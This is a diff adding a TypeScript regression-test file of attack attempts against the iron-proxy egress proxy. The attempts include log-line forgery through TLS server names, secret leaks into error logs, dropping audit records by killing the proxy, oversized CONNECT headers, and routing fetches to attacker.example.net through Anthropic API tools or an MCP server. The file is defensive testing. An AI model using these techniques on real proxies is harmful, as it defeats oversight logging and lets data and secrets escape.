@@ -1,0 +1,236 @@
+import { sharing } from '../../proof/proof';
+import { arrivedIf, type ProxyAttempt, request, type Step, secure, TOKEN } from '../plan/attempt';
+import { clientHello, isServerHello } from '../plan/hello';
+import type { Target } from '../plan/target';
+import { NO_WRITE, reading } from './reading';
+
+/** What attacking the real iron-proxy, behind these policies, had found. Each was real once. */
+const shared = {
+  group: 'flaws once found in iron-proxy and in what surrounds it',
+  law: 'LOG-1',
+  heldBy: 'the front',
+  mustFailIn: ['relay'],
+  alone: true,
+} as const;
+const finding = sharing<ProxyAttempt>({ ...shared, through: () => undefined });
+
+/** Nothing on disk says that the request which arrived was allowed. */
+const unrecorded: ProxyAttempt['through'] = ({ arrivals, logged, digest }, { write }) => {
+  const arrived = arrivals.some(({ method }) => method === write?.method);
+  const recorded = logged.lines.some((line) => line.includes(digest) && line.includes('"decision":"allow"'));
+  return arrived && !recorded ? 'a write arrived, and no record says so' : undefined;
+};
+
+/** A write that the policy allows, whose answer takes seconds. */
+const slowWrite = ({ write }: Target, query: string) =>
+  write &&
+  request(write.method, `${write.path}?mark=${TOKEN}&${query}`, write.host, { body: '{"name":"lab"}' });
+
+const JSON_BODY = ['Content-Type: application/json'];
+const FILL = 64 << 20;
+/** The longest line of a log, and a path that makes a longer one. */
+const [LINE, LONG] = [10_000, 60_000];
+/** It carries no mark, which would change its length. */
+const forged = '{"forged":1,"audit":{"action":"allow"}}';
+
+const hello = ({ own }: Target, name: string): Step => ({
+  exchange: { to: own, port: 443, send: [clientHello(name)], patience: 1_500 },
+});
+const greeted: ProxyAttempt['through'] = ({ replies }) => {
+  const found = replies.filter(({ body }) => isServerHello(body)).length;
+  return found === 0 ? undefined : `${found} of ${replies.length} names were greeted`;
+};
+
+export const FINDINGS: readonly ProxyAttempt[] = [
+  finding(
+    'X20',
+    'a line of its own in a log, through a TLS server name with line breaks',
+    (target) => [hello(target, `\n${forged}\n\xff`)],
+    {
+      logs: true,
+      heldBy: 'the front passes plain host names alone',
+      through: ({ logged }) =>
+        logged.lines.some((line) => line.startsWith('{"forged":')) ? 'the line is in a log' : undefined,
+    },
+  ),
+  finding(
+    'X21',
+    'a secret in an error line, through a query that iron-proxy cannot write again, and an odd port',
+    (target) =>
+      target.policy.secrets.some(({ header }) => header === undefined)
+        ? target.allowed.flatMap(({ host, method, path, secrets }) =>
+            secrets.length === 0
+              ? []
+              : [
+                  secure(target, host, request(method, `${path}?a=#%zz`, host)),
+                  secure(target, host, request(method, path, `${host}:x`)),
+                ],
+          )
+        : 'every secret of this policy is put into a header',
+    {
+      law: 'SEC-1',
+      logs: true,
+      open: 'A secret that is injected into a path or query can appear in an error line',
+      heldBy: 'the gate refuses odd ports and queries before a secret is put in',
+      mustFailIn: ['silent'],
+      through: ({ logged }) => logged.leaks[0] && `the value of ${logged.leaks[0]} is in a log`,
+    },
+  ),
+  finding(
+    'X22',
+    'an allowed write without a record: its answer is held up, and iron-proxy killed meanwhile',
+    (target) => {
+      const text = slowWrite(target, 'lab=events:30');
+      if (text === undefined || target.write === undefined) return NO_WRITE;
+      return [
+        {
+          together: [
+            secure(target, target.write.host, text, { patience: 2_500 }),
+            { cause: 'killed', after: 800 },
+          ],
+        },
+      ];
+    },
+    {
+      logs: true,
+      open: 'an allowed write leaves no line',
+      heldBy: 'the gate writes a record before a request leaves',
+      mustFailIn: ['silent'],
+      through: unrecorded,
+    },
+  ),
+  finding(
+    'X23',
+    'an allowed write without a record: the client leaves',
+    (target) => {
+      const text = slowWrite(target, 'lab=events:30');
+      if (text === undefined || target.write === undefined) return NO_WRITE;
+      return [secure(target, target.write.host, text, { patience: 600 })];
+    },
+    {
+      logs: true,
+      open: 'an allowed write leaves no line',
+      heldBy: 'the gate writes a record before a request leaves',
+      mustFailIn: ['silent'],
+      through: unrecorded,
+    },
+  ),
+  finding(
+    'X24',
+    `a CONNECT head of ${FILL >> 20} MB`,
+    ({ own }) => [
+      {
+        exchange: {
+          to: own,
+          port: 8080,
+          send: [`CONNECT attacker.example.net:443 HTTP/1.1\r\nX-Big: `, { fill: FILL }],
+          patience: 3_000,
+        },
+      },
+    ],
+    {
+      law: 'LOG-1',
+      heldBy: 'the head of CONNECT is bounded',
+      through: ({ replies: [reply] }) =>
+        reply?.ended === 'no answer' || reply?.statuses[0] === 200
+          ? 'the proxy box goes on reading'
+          : undefined,
+    },
+  ),
+  finding(
+    'X25',
+    `a line of a log as long as a path of ${LONG / 1000} KB`,
+    (target) => [secure(target, target.read.host, reading(target, { path: `/${'p'.repeat(LONG)}` }))],
+    {
+      logs: true,
+      open: 'makes iron-proxy write long lines into the log',
+      heldBy: 'what iron-proxy writes is cut before it is a log',
+      through: ({ logged }) => {
+        const longest = Math.max(0, ...logged.lines.map((line) => line.length));
+        return longest > LINE ? `a line of ${longest} bytes` : undefined;
+      },
+    },
+  ),
+  finding(
+    'X26',
+    "a model's vendor asked to fetch an address, to run code and to call a server",
+    (target) => {
+      const model = target.allowed.find(
+        ({ host, path }) => host === 'api.anthropic.com' && path === '/v1/messages',
+      );
+      if (model === undefined) return "this policy has no rule for Anthropic's messages";
+      const ask = (more: object) => {
+        const body = JSON.stringify({
+          model: 'lab',
+          max_tokens: 1,
+          messages: [{ role: 'user', content: 'lab' }],
+          ...more,
+        });
+        return secure(
+          target,
+          model.host,
+          request('POST', model.path, model.host, { headers: JSON_BODY, body }),
+        );
+      };
+      const image = { type: 'image', source: { type: 'url', url: 'https://attacker.example.net/a.png' } };
+      return [
+        ask({ tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] }),
+        ask({ tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] }),
+        ask({ mcp_servers: [{ type: 'url', url: 'https://attacker.example.net', name: 'a' }] }),
+        ask({ messages: [{ role: 'user', content: [image] }] }),
+      ];
+    },
+    {
+      law: 'POL-1',
+      open: "A model's API can fetch addresses",
+      heldBy: "the gate judges the body by the preset's fields",
+      through: arrivedIf(({ host }) => host === 'api.anthropic.com'),
+    },
+  ),
+  finding(
+    'X27',
+    'the method CONNECT with a path, over TLS, to an allowed host',
+    (target) => [secure(target, target.read.host, request('CONNECT', target.read.path, target.read.host))],
+    {
+      law: 'POL-1',
+      heldBy: 'no rule has the method CONNECT',
+      mustFailIn: ['methods'],
+      through: arrivedIf(({ method }) => method === 'CONNECT'),
+    },
+  ),
+  finding(
+    'X28',
+    'server names that no host has: of 254 bytes and 60 KB, with colons, and with a slash',
+    (target) =>
+      [`${'a.'.repeat(126)}ab`, `${'b'.repeat(60)}.`.repeat(983), '2001:db8::1', 'a/b.example.net'].map(
+        (name) => hello(target, name),
+      ),
+    {
+      law: 'LOG-1',
+      heldBy: 'the front passes plain host names of at most 253 bytes alone',
+      through: greeted,
+    },
+  ),
+  finding(
+    'X29',
+    'a release published, moved and retagged by the rule that edits release notes',
+    (target) => {
+      const { write } = target;
+      if (write === undefined || write.host !== 'api.github.com') return 'this policy edits no release';
+      const body = JSON.stringify({ name: 'lab', draft: false, tag_name: 'v9', target_commitish: 'lab' });
+      return [
+        secure(
+          target,
+          write.host,
+          request(write.method, write.path, write.host, { headers: JSON_BODY, body }),
+        ),
+      ];
+    },
+    {
+      law: 'POL-1',
+      open: "iron-proxy isn't yet told to ask",
+      heldBy: "the gate judges the body by the rule's fields",
+      through: arrivedIf(({ method }, { write }) => method === write?.method),
+    },
+  ),
+];
